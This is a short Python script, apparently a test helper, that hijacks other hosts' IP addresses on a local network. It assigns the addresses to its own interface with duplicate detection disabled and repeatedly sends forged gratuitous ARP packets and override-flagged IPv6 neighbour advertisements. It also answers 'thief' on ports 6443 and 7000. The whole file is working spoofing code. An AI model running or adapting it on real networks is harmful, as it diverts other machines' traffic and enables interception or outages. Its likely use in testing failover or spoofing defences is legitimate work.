#!/usr/bin/env python3
"""Takes addresses of others, as root in a node can: forged ARP answers and announcements, forged
neighbour advertisements, and the addresses themselves on its own card.

thief.py INTERFACE SECONDS ADDRESS...

Prints `at work` once all of it was done for the first time. Whoever connects to it is answered `thief`.
"""

import ipaddress
import socket
import struct
import subprocess
import sys
import threading
import time

PORTS = (6443, 7000)
ETH_ARP, ETH_IPV6 = 0x0806, 0x86DD
EVERYBODY = b"\xff" * 6


def answer(port):
    """Answers every connection to this port, also to addresses that the card gets later."""
    listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    listener.bind(("::", port))
    listener.listen()
    while True:
        connection, _ = listener.accept()
        with connection:
            connection.sendall(b"thief\n")


def arp(operation, mac, address, to_mac, to_address):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    body += mac + address.packed + (to_mac if operation == 2 else bytes(6)) + to_address.packed
    return to_mac + mac + struct.pack("!H", ETH_ARP) + body


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(mac, address):
    """An unsolicited neighbour advertisement to all nodes that overrides what they know."""
    to = ipaddress.IPv6Address("ff02::1")
    option = struct.pack("!BB", 2, 1) + mac
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + address.packed + option
    pseudo = address.packed + to.packed + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + address.packed + to.packed
    return b"\x33\x33\x00\x00\x00\x01" + mac + struct.pack("!H", ETH_IPV6) + header + body


def main():
    interface, seconds = sys.argv[1], float(sys.argv[2])
    addresses = [ipaddress.ip_address(text) for text in sys.argv[3:]]
    with open(f"/sys/class/net/{interface}/address") as file:
        mac = bytes.fromhex(file.read().strip().replace(":", ""))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    for port in PORTS:
        threading.Thread(target=answer, args=(port,), daemon=True).start()
    four = [address for address in addresses if address.version == 4]
    six = [address for address in addresses if address.version == 6]
    for address in addresses:
        width = address.max_prefixlen
        command = ["ip", "addr", "replace", f"{address}/{width}", "dev", interface]
        # No test whether somebody else has it.
        subprocess.run(command + (["nodad"] if address.version == 6 else []), check=True)
    end = time.monotonic() + seconds
    told = False
    while time.monotonic() < end:
        for address in four:
            wire.send(arp(2, mac, address, EVERYBODY, address))
            wire.send(arp(1, mac, address, EVERYBODY, address))
            for other in four:
                wire.send(arp(2, mac, address, EVERYBODY, other))
        for address in six:
            wire.send(advertisement(mac, address))
        if not told:
            print("at work", flush=True)
            told = True
        time.sleep(0.1)


main()
